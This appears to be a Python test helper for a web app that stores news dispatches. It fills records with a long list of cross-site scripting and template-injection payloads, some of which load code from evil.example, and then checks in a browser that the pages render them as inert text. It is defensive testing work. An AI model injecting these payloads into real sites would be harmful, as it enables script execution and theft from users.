"""Records full of markup that wants to be run, and what a browser must not have done with it."""

import re
from collections.abc import Iterable, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

from dateline.documents.clean import printable
from dateline.record import Incoming, open_record
from record.making import incoming, report_of

# Kinds of evasion that the OWASP cheat sheet lists, in our own words: tags, attributes, schemes, encodings, broken
# markup, what browsers mend, what templates and scripts would run. Each would open a box, or ask evil.example.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<script\x0c>alert(3)</script\n>",
    "</title><script>alert(4)</script>",
    "</textarea><script>alert(5)</script>",
    "</style><script>alert(6)</script>",
    "--><script>alert(7)</script><!--",
    "]]><script>alert(8)</script>",
    "<script type=module>import('//evil.example/m.js')</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(9)>">',
    "<img src=x onerror=alert(10)>",
    "<img/src=x/onerror=alert(11)>",
    "<img src='x' onerror='alert(12)'",
    '<IMG """><SCRIPT>alert(13)</SCRIPT>">',
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/p.gif 1x'>",
    "<svg onload=alert(14)>",
    "<svg><script>alert(15)</script></svg>",
    "<svg><a xlink:href='javascript:alert(16)'><text>x",
    "<svg><animate onbegin=alert(17) attributeName=x dur=1s>",
    "<svg><use href='//evil.example/s.svg#x'>",
    "<math><mi xlink:href='javascript:alert(18)'>x</mi></math>",
    "<body onload=alert(19)>",
    "<details open ontoggle=alert(20)>",
    "<input autofocus onfocus=alert(21)>",
    "<video src=x onerror=alert(22)>",
    "<audio src=//evil.example/a.mp3 autoplay>",
    "<iframe src='javascript:alert(23)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(24)</script>'>",
    "<object data='javascript:alert(25)'></object>",
    "<embed src='//evil.example/e.swf'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<link rel=prefetch href=//evil.example/f>",
    "<style>@import '//evil.example/i.css';</style>",
    "<div style='background:url(//evil.example/b.png)'>x</div>",
    "<form action=//evil.example/><button formaction='javascript:alert(26)'>go</button>",
    "<isindex action='javascript:alert(27)'>",
    "<a href='javascript:alert(28)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(29)'>x</a>",
    "<a href='java\tscript:alert(30)'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgzMSk8L3NjcmlwdD4=>x</a>",
    "<a href='vbscript:msgbox(32)'>x</a>",
    '" onmouseover="alert(33)',
    "' onfocus='alert(34)' autofocus='",
    "` onerror=`alert(35)",
    'x" autofocus onfocus=alert(36) y="',
    "javascript:alert(37)",
    "JAVASCRIPT:alert(38)//https://a.example/",
    "\x01javascript:alert(39)",
    " javascript:alert(40)",
    "data:text/html,<script>alert(41)</script>",
    'https://a.example/"onclick="alert(42)',
    "//evil.example/x",
    "\\\\evil.example\\x",
    "&lt;script&gt;alert(43)&lt;/script&gt;",
    "&#60;script&#62;alert(44)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(45)&#x3E;",
    "%3Cscript%3Ealert(46)%3C/script%3E",
    "\\u003cscript\\u003ealert(47)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(48)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(49)\uff1c/script\uff1e",
    "<\u0130mg src=x onerror=alert(50)>",
    "\u202e<script>alert(51)</script>",
    "{{ 7 * 7 }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${alert(52)}",
    "<template><script>alert(53)</script></template>",
    "<xss id=x tabindex=1 onfocus=alert(54)>",
    "<x contenteditable onblur=alert(55)>",
    "<marquee onstart=alert(56)>",
    "<table background='//evil.example/t.png'>",
    "<bgsound src=//evil.example/s.mid>",
    "<![CDATA[<script>alert(57)</script>]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "<!--[if gte IE 4]><script>alert(58)</script>",
    "<plaintext>",
    "<textarea autofocus onfocus=alert(59)>",
    "<select autofocus onfocus=alert(60)>",
    "<portal src=//evil.example/>",
)

_WATCH = """
window.fired = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"])
  window[name] = (...said) => window.fired.push(name + ":" + said);
document.addEventListener("securitypolicyviolation", (e) =>
  window.fired.push(`${e.violatedDirective}: ${e.blockedURI} ${e.sample}`));
"""
_FOREIGN = """() => {
  const found = [], ours = new RegExp("^(/|https?:|#|\\\\?|$)");
  const dead = new Set(("iframe frame object embed base portal style template math marquee plaintext video audio xss " +
    "bgsound foreignobject animate use").split(" "));
  const addresses = new Set("href src action formaction xlink:href data background poster srcset".split(" "));
  for (const element of document.querySelectorAll("*")) {
    const told = () => found.push(element.outerHTML.slice(0, 200));
    const tag = element.localName;
    if (dead.has(tag) && element.closest("main")) told();
    if (tag === "script" && !(element.getAttribute("src") ?? "").startsWith("/static/")) told();
    if (tag === "link" && !/^\\/(static\\/|incidents)/.test(element.getAttribute("href"))) told();
    if (tag === "meta" && element.hasAttribute("http-equiv")) told();
    if (tag === "img" || (tag === "svg" && !element.closest(".brand, .bars, .leaflet-container"))) told();
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || name === "srcdoc" || name === "contenteditable") told();
      if (addresses.has(name) && (!ours.test(value) || /^\\/[\\/\\\\]/.test(value))) told();
      if (name === "style" && /url|expression|import/i.test(value)) told();
    }
  }
  return found;
}"""


def hostile(k: int, payloads: Sequence[str], *, url: str) -> Incoming:
    """The k-th dispatch: a claim for each of some payloads, with one of them in each of its fields."""
    lines = [
        f"{n + 2} drones ont été abattus près de Koursk, a annoncé le gouverneur numéro {k}x{n}. {_line(payload)}"
        for n, payload in enumerate(payloads)
    ]
    text, claims, report = "Dépêche\n\n" + "\n\n".join(lines) + "\n", [], {}
    for n, line in enumerate(lines):
        report = report_of(f"Dépêche\n\n{line.partition('. ')[0]}. \n", uri=f"d{k}.txt")
        claim = _moved(report["claims"][0], by=text.index(line) - len("Dépêche\n\n"))
        told = claim["evidence"][0]
        whole = {"start": told["start"], "end": told["start"] + len(line), "quote": line}
        at = {"start": told["start"], "end": told["start"] + 3, "quote": line[:3]}

        def said(field: int, n: int = n) -> str:
            return payloads[(n + field) % len(payloads)]

        claim |= {"id": f"c{n + 1}", "evidence": [whole]}
        claim["source"] |= {"name": said(1), "person": said(2), "role": said(3)}
        claim["place"] |= {"name": said(4), "reason": said(5)}
        claim["quantities"][0]["unit"] = said(6)
        claim["actor"] = at | {"name": said(7), "side": None, "kind": "state"}
        claim["target"] = at | {"name": said(8), "kind": "town"}
        claim["relayed_by"] = [at | {"name": said(9), "kind": "agency", "side": None}]
        claims.append(claim)
    incident = report["incidents"][0] | {"claims": [c["id"] for c in claims], "place": claims[0]["place"]}
    report |= {"claims": claims, "incidents": [incident | {"sources": [c["source"]["name"] for c in claims]}]}
    title, outlet = " ".join(payloads), " ".join(reversed(payloads))
    report["document"] |= {"title": title, "agency": outlet, "outlet": outlet, "url": url}
    report["document"]["parts"][0]["end"] = len(text)
    made = incoming(0, text="2 drones ont été abattus près de Koursk, a annoncé le gouverneur numéro 0. x\n")
    more = {"text": text, "uri": f"d{k}.txt", "title": title, "outlet": outlet, "url": url, "report": report}
    return replace(made, **more, raw=replace(made.raw, body=text.encode(), name=f"d{k}.txt"))


def _line(payload: str) -> str:
    return " ".join(printable(payload).split())


def _moved(value: Any, *, by: int) -> Any:
    """A part of a report with all its spans moved on."""
    if isinstance(value, dict):
        return {k: v + by if k in ("start", "end") else _moved(v, by=by) for k, v in value.items()}
    return [_moved(one, by=by) for one in value] if isinstance(value, list) else value


URLS = [payload for payload in PAYLOADS if re.match(r"[\s\x01]*(javascript|data|https?|//|\\)", payload, re.IGNORECASE)]
TOGETHER = 12  # payloads in a dispatch


def filled_with(path: Path, payloads: Sequence[str], *, urls: Sequence[str] = URLS) -> str:
    """The id of the one incident of a new record of which all its dispatches tell, with all payloads in them."""
    with open_record(path, create=True) as record:
        for k in range(0, len(payloads), TOGETHER):
            some = payloads[k : k + TOGETHER]
            added = record.add(hostile(k, some, url=urls[k // TOGETHER % len(urls)]), last=True)
            assert added.outcome in ("new", "copy"), added
        keys = [incident["id"] for incident in record.incidents(limit=1000, whole=False)]
        for number, key in enumerate(keys[1:]):
            record.merge(keys[0], key, reason=payloads[number % len(payloads)], who="ada")
        return str(record.incident(keys[0])["id"])


def watched(page: Any, address: str) -> list[str]:
    """What a page does from now on that it should not: boxes, questions to others, blocked scripts."""
    told: list[str] = []
    page.add_init_script(_WATCH)
    page.on("dialog", lambda box: (told.append(f"box: {box.message}"), box.dismiss()))
    page.on("pageerror", lambda error: told.append(f"error: {error}"))
    page.on("popup", lambda other: told.append(f"popup: {other.url}"))
    page.on("request", lambda r: None if r.url.startswith((f"{address}/", "data:image/")) else told.append(r.url))
    page.on("console", lambda m: told.append(m.text) if m.type == "error" else None)
    return told


def inert(page: Any, told: list[str], payloads: Iterable[str] = ()) -> None:
    """Fails where markup of others came to life in the page, or some of the payloads are not to be read in it."""
    for element in page.query_selector_all("main details:not(.placing)"):
        element.evaluate("e => { e.open = true; }")
    page.evaluate("() => { for (const e of document.querySelectorAll('a, button, input, mark')) { e.focus(); "
                  "e.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })); } }")  # fmt: skip
    fired = page.evaluate("window.fired")
    assert not told and not fired, (page.url, told[:5], fired[:5])
    foreign = page.evaluate(_FOREIGN)
    assert not foreign, (page.url, foreign[:5])
    seen = _plain(page.evaluate("document.querySelector('main').textContent"))
    unseen = [payload for payload in payloads if _plain(payload) not in seen]
    assert not unseen, (page.url, unseen[:5])


def _plain(text: str) -> str:
    """A text without what templates may lay out otherwise: blanks and what is not printed."""
    return re.sub(r"[^\w<>=]", "", text)
